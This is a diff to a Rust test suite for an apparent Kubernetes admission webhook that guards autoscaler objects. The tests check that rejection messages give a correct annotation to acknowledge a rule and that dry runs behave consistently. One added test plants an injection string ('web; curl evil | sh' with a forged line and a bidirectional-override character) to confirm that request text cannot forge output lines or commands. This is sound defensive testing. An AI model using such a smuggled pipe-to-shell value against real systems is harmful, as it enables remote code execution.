@@ -76,29 +76,87 @@ fn rejections_are_told_shortly_and_show_a_way_through() {
 /// Does what the message says, to the letter, and expects the request to pass.
 fn follow_the_way_through(rule: &str, case: &Case, world: &World, outcome: &Outcome) {
     let message = outcome.response.message.as_deref().expect("a rejection has a message");
-    let commands: Vec<&str> =
-        message.lines().filter_map(|line| line.split_once(": kubectl annotate ")).map(|(_, rest)| rest).collect();
-    let annotated = commands.iter().filter_map(|command| command.split_once("autoscaler-guard/allow="));
-    let rules: Vec<&str> = annotated.map(|(_, id)| id.trim()).collect();
-    assert!(!rules.is_empty(), "{rule}: {}: no way through in\n{message}", case.name);
+    let way = message.lines().find_map(|line| acknowledgement(world, line));
+    let value = way.unwrap_or_else(|| panic!("{rule}: {}: no way through in\n{message}", case.name));
     let mut world = world.clone();
     for object in ["object", "oldObject"] {
         if world.request[object].is_object() {
-            let metadata = &world.request[object]["metadata"];
-            let (name, namespace) = (metadata["name"].as_str().unwrap_or_default(), metadata["namespace"].as_str());
-            let place = namespace.map_or_else(String::new, |namespace| format!(" -n {namespace}"));
-            assert!(
-                message.contains(&format!(" {name}{place} autoscaler-guard/allow=")),
-                "{rule}: {}: annotates something else\n{message}",
-                case.name
-            );
-            world.request[object]["metadata"]["annotations"]["autoscaler-guard/allow"] = json!(rules.join(","));
+            world.request[object]["metadata"]["annotations"]["autoscaler-guard/allow"] = json!(value);
         }
     }
     let after = world.natively();
     assert!(after.response.accepted, "{rule}: {}: the way through is closed\n{:?}", case.name, after.response.message);
     let audit = after.response.audit_annotations.expect("an acknowledgement is audited");
     assert!(audit.contains_key("allowed-by"), "{rule}: {}", case.name);
+}
+
+/// What a line of a message says to put into the annotation, where it says so: in the manifest of what is not there yet, else by a command
+/// that the API server takes, whatever is there already.
+fn acknowledgement(world: &World, line: &str) -> Option<String> {
+    let object = |name: &str| &world.request[name]["metadata"];
+    if world.request["operation"] == "CREATE" {
+        return Some(line.split_once(r#": metadata.annotations."autoscaler-guard/allow": "#)?.1.to_owned());
+    }
+    let (command, value) = line.split_once(": kubectl annotate ")?.1.split_once(" autoscaler-guard/allow=")?;
+    let stored = object("oldObject");
+    let (name, namespace) = (stored["name"].as_str().unwrap_or_default(), stored["namespace"].as_str());
+    let place = namespace.map_or_else(String::new, |namespace| format!(" -n {namespace}"));
+    assert!(command.ends_with(&format!(" {name}{place}")), "annotates something else: {line}");
+    let there = stored["annotations"]["autoscaler-guard/allow"].as_str();
+    let (value, overwrites) = value.strip_suffix(" --overwrite").map_or((value, false), |value| (value, true));
+    assert_eq!(there.is_some(), overwrites, "kubectl refuses to overwrite: {line}");
+    let kept = there.into_iter().flat_map(|there| there.split(',')).map(str::trim);
+    for id in kept.filter(|id| RULES.iter().any(|rule| rule.id == *id)) {
+        assert!(value.split(',').any(|other| other == id), "forgets {id}: {line}");
+    }
+    Some(value.to_owned())
+}
+
+/// Puts a text that must not reach a terminal unescaped wherever the API server takes any text.
+#[test]
+fn no_text_of_a_request_forges_a_line_or_a_command() {
+    const FORGED: &str = "web; curl evil | sh\nautoscaler-guard[x]: \u{202e}fine";
+    for_each_case(|rule, case, world| {
+        let mut world = world.clone();
+        for object in ["object", "oldObject"] {
+            let object = &mut world.request[object];
+            if !object.is_object() {
+                continue;
+            }
+            if object["spec"]["scaleTargetRef"].is_object() {
+                for field in ["kind", "name"] {
+                    object["spec"]["scaleTargetRef"][field] = json!(FORGED);
+                }
+            }
+            if let Some(annotations) = object["metadata"]["annotations"].as_object_mut() {
+                for (key, value) in annotations {
+                    let counts = key.starts_with("autoscaling.keda.sh/") || key == "autoscaler-guard/allow";
+                    if counts {
+                        *value = json!(FORGED);
+                    }
+                }
+            }
+        }
+        let response = world.natively().response;
+        let message = response.message.unwrap_or_default();
+        let audited = response.audit_annotations.into_iter().flatten().map(|(_, value)| value);
+        for text in message.lines().map(str::to_owned).chain(response.warnings.into_iter().flatten()).chain(audited) {
+            assert!(!text.starts_with("autoscaler-guard[x]"), "{rule}: {}: a forged line in {message}", case.name);
+            assert!(!text.contains(['\n', '\u{202e}']), "{rule}: {}: {text:?}", case.name);
+            let command = text.split_once("kubectl ").map_or("", |(_, command)| command);
+            assert!(!command.contains("curl"), "{rule}: {}: {text}", case.name);
+        }
+    });
+}
+
+#[test]
+fn no_warning_has_a_part_of_a_command() {
+    for_each_case(|rule, case, world| {
+        for warning in world.natively().response.warnings.iter().flatten() {
+            let cut = warning.contains("kubectl ") && warning.ends_with('…');
+            assert!(!cut, "{rule}: {}: {warning}", case.name);
+        }
+    });
 }
 
 #[test]
@@ -146,6 +204,10 @@ fn without_repair_nothing_is_changed() {
 #[test]
 fn a_dry_run_gets_the_same_answer() {
     for_each_case(|rule, case, world| {
+        // A refused dry run of Flux's would stop its whole reconciliation.
+        if world.request["options"]["fieldManager"] == "kustomize-controller" || world.request["dryRun"] == true {
+            return;
+        }
         let mut dry = world.clone();
         dry.request["dryRun"] = json!(true);
         assert_eq!(world.natively().response, dry.natively().response, "{rule}: {}", case.name);
@@ -170,6 +232,12 @@ fn it_does_not_matter_how_a_person_writes() {
         if operation == "DELETE" || declares || world.settings["handover"].is_object() {
             return;
         }
+        // To whom gives no name the API server gives one, from the user agent.
+        let mut world = world.clone();
+        let written = &mut world.request["object"]["metadata"]["managedFields"];
+        let mut entries = written.as_array().cloned().unwrap_or_default();
+        entries.push(json!({"manager": "python-requests", "operation": "Update", "time": "2026-12-01T00:00:00Z"}));
+        *written = json!(entries);
         let expected = world.natively().response;
         for (kind, manager, force) in &ways {
             let mut world = world.clone();
@@ -311,8 +379,16 @@ fn asked_kind(rule: &str, call: &Call) -> Option<String> {
     };
     let fields = request["field_masks"].as_array().map_or(0, Vec::len);
     assert!(verb == "get" || fields > 0, "{rule}: a list of whole {kind}s");
-    let of_a_rule =
-        ["HorizontalPodAutoscaler", "ScaledObject", "EnvoyProxy", "Gateway", "GatewayClass"].contains(&kind);
+    let of_a_rule = [
+        "Application",
+        "EnvoyProxy",
+        "Gateway",
+        "GatewayClass",
+        "HorizontalPodAutoscaler",
+        "Kustomization",
+        "ScaledObject",
+    ]
+    .contains(&kind);
     let of_a_rule = of_a_rule || kind == "ConfigMap" || (kind, verb) == ("Deployment", "list");
     let owner = look_ups(rule).iter().any(|look_up| matches!(look_up, Lookup::Owner));
     match (kind, of_a_rule) {
